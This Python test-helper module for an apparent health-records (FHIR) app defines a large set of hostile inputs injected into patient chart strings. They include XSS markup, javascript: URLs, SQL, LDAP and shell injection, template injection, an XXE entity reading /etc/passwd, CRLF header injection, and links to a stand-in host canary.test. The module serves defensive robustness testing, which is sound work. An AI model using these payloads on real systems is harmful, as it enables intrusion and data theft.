"""Text that charts and people may send, made to break a page, a log, a store or a program behind them; and
charts in which it stands in every string.
"""

import base64
import json
import os
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field

from starlette.datastructures import MutableHeaders

ROUNDS = int(os.environ.get("COMMON_GROUND_HOSTILE_ROUNDS", "2"))
"""How often each chart is read, each time with other payloads in other places."""

MARK = "zq7"
"""Stands in every payload, so that a page can be asked whether it shows one."""

CANARY = "https://canary.test"

MARKUP = (
    f"<script>alert('{MARK}')</script>",
    f"{MARK}</script><script src={CANARY}/x.js></script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f"<svg/onload=alert('{MARK}')>",
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    f"<a href=javascript:alert(1)>{MARK}</a>",
    f"<form action={CANARY}/><input name=token value={MARK}><button>{MARK}</button></form>",
    f'<meta http-equiv="refresh" content="0;url={CANARY}/{MARK}">',
    f"<base href={CANARY}/>{MARK}",
    f"<link rel=stylesheet href={CANARY}/{MARK}.css>",
    f"<style>@import url({CANARY}/{MARK})</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    f"</textarea></title></select></option><script>alert('{MARK}')</script>",
    f"</p></main></body></html><h1>{MARK}</h1>",
    f"--><!--{MARK}--><script>alert(1)</script>",
    f"]]><![CDATA[{MARK}]]><script>alert(1)</script>",
    f"\x01<script>alert('{MARK}')</script>",
    f"\x0b<\x00script>alert('{MARK}')</script\x00>",
    f"<<script>>{MARK}<</script>>",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;&#60;script&#62;&amp;lt;",
    f"+ADw-script+AD4-alert('{MARK}')+ADw-/script+AD4-",
    f"\uff1cscript\uff1ealert({MARK})\uff1c/script\uff1e",
    f"‹script›{MARK}\u2028alert(1)\u2029</script>",
)
ATTRIBUTES = (
    f'" onmouseover="alert(1)" {MARK}="',
    f"' onfocus='alert(1)' autofocus {MARK}='",
    f"` onclick=alert(1) {MARK}",
    f"{MARK} onload=alert(1) style=background:url({CANARY}/)",
    f'"></option></select><img src=x onerror=alert(1)>{MARK}',
    f"'/><script>{MARK}</script>",
    f'"\n\tonmouseover\n=\n"alert(1)"{MARK}',
)
ADDRESSES = (
    f"javascript:alert('{MARK}')",
    f"JaVaScRiPt:alert('{MARK}')",
    f"java\tscript:alert('{MARK}')",
    f"\x01javascript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"vbscript:msgbox('{MARK}')",
    f"{CANARY}/{MARK}",
    f"//canary.test/{MARK}",
    f"\\\\canary.test\\{MARK}",
    f"https://ehr.test@canary.test/{MARK}",
    f"file:///etc/passwd#{MARK}",
    f"../../../../{MARK}/%2e%2e%2f",
    f"/visits/{MARK}/../../healthz",
)
TEMPLATES = (
    f"{{{{ 7*7 }}}}{MARK}",
    f"{{% for x in range(9**9) %}}{MARK}{{% endfor %}}",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{MARK}",
    f"${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
    f"%(name)s %s %d %n {{0}} {{name}} {MARK}",
    f"100% {MARK} %%(n)s",
    f"{{# {MARK} #}}",
)
LETTERS = (
    f"\u202e{MARK} tfel\u202c",
    f"\u2066\u2067{MARK}",
    f"\u202b\u202b\u202b{MARK}",
    f"\u200f{MARK} שלום\u200f",
    f"z\u200bq\u200c{MARK}\u200d\u2060\ufeff",
    f"{MARK}" + "\u0301\u0338\u20dd" * 300,
    f"{MARK} \ufdfd\U0001242b" * 20,
    f"\U000e0041\U000e007f{MARK}\ufff9x\ufffay\ufffb",
    f"{MARK}\ue000\uffff\ufffe\U0010ffff",
    f"\U0001f468\u200d\U0001f469\u200d\U0001f467{MARK}",
    f"ﬁﬂ İı ß {MARK} K Å",
)
CONTROLS = (
    f"{MARK}\x00after",
    f"\x00{MARK}",
    f"{MARK}\x1b[31mred\x1b]0;title\x07\x1b[2J",
    f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<html>",
    f"{MARK}\n" * 40,
    "".join(map(chr, range(32))) + MARK,
    f"{MARK}\x7f\x80\x85\x9b\x9d",
    f"\x1f{MARK}\x1f",
    "\x1f",
    f"{MARK}\t\x0b\x0c\x1c\x1d\x1e",
    " " * 50 + MARK,
)
QUERIES = (
    f"'; DROP TABLE drafts; -- {MARK}",
    f'{{"$ne": null}} {MARK}',
    f"*)(uid=*))(|(uid=* {MARK}",
    f"$(touch {MARK}) `id` | cat",
    f'=HYPERLINK("{CANARY}","{MARK}")',
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{MARK}</x>",
    f'{MARK}","resourceType":"Patient","id":"x',
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *LETTERS, *CONTROLS, *QUERIES)

LONG = f"{MARK} " + "W" * 1_000_000
"""A name of a megabyte without a place to break it."""

ROUTING = frozenset({"resourceType", "id", "reference", "code", "system", "mode", "relation", "url"})
"""Members that say what a resource is, whose, and where its kind of thing is looked for."""

CODED = frozenset(
    {
        "status", "use", "language", "birthDate", "contentType", "gender", "type", "intent", "authoredOn",
        "start", "end", "date", "authored", "effectiveDateTime", "issued", "recordedDate", "onsetDateTime",
        "startDate", "statusDate", "dueDate", "lifecycleStatus", "dateTime", "created", "versionId",
        "lastUpdated", "questionnaire", "linkId", "docStatus", "unit", "value", "recorded", "fullUrl",
    }
)  # fmt: skip
"""Members that are dates and codes, without which a text is not shown or shown elsewhere."""


@dataclass(slots=True)
class Spoiler:
    """Puts payloads into the strings of resources, one after the other, from `first` on.

    `kept`: names of members whose strings stay. `count`: how many were put in so far.
    """

    payloads: Sequence[str]
    first: int = 0
    kept: frozenset[str] = ROUTING | CODED
    count: int = field(default=0)

    def spoiled(self, value: object, name: str = "") -> object:
        """The value with every string in it replaced, but those of members that are kept."""
        if isinstance(value, dict):
            return {key: self.spoiled(below, key) for key, below in value.items()}
        if isinstance(value, list):
            return [self.spoiled(below, name) for below in value]
        if not isinstance(value, str) or name in self.kept:
            return value
        payload = self.payloads[(self.first + self.count) % len(self.payloads)]
        self.count += 1
        return in_base64(note_with(payload)) if name == "data" else payload


def note_with(payload: str) -> str:
    """A note that says something in the patient's words, so that it comes up on pages."""
    return f'Visit\n\nPatient states: "I want {payload} to stop."\n\nGoals: to walk {payload} again.\n'


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8", "replace")).decode()


Change = Callable[[MutableHeaders, bytes], bytes]


def on_the_wire(spoil: Callable[[dict[str, object]], object]) -> Change:
    """For `Wire.change`: every resource of an answer is spoiled, but for a Bundle around them."""

    def change(_: MutableHeaders, body: bytes) -> bytes:
        answer = json.loads(body)
        if "resourceType" not in answer:
            return body
        if answer["resourceType"] != "Bundle":
            return json.dumps(spoil(answer)).encode()
        for entry in answer.get("entry", []):
            entry["resource"] = spoil(entry["resource"])
        return json.dumps(answer).encode()

    return change


_HARMLESS = str.maketrans(dict(zip("<>\"'&", "[]|^+", strict=True)))


def harmless(payload: str) -> str:
    """The same text without the five characters that mean something in HTML."""
    return payload.translate(_HARMLESS)


def strings(value: object) -> Iterator[str]:
    """Every string in a decoded JSON value."""
    if isinstance(value, Mapping):
        for below in value.values():
            yield from strings(below)
    elif isinstance(value, list):
        for below in value:
            yield from strings(below)
    elif isinstance(value, str):
        yield value
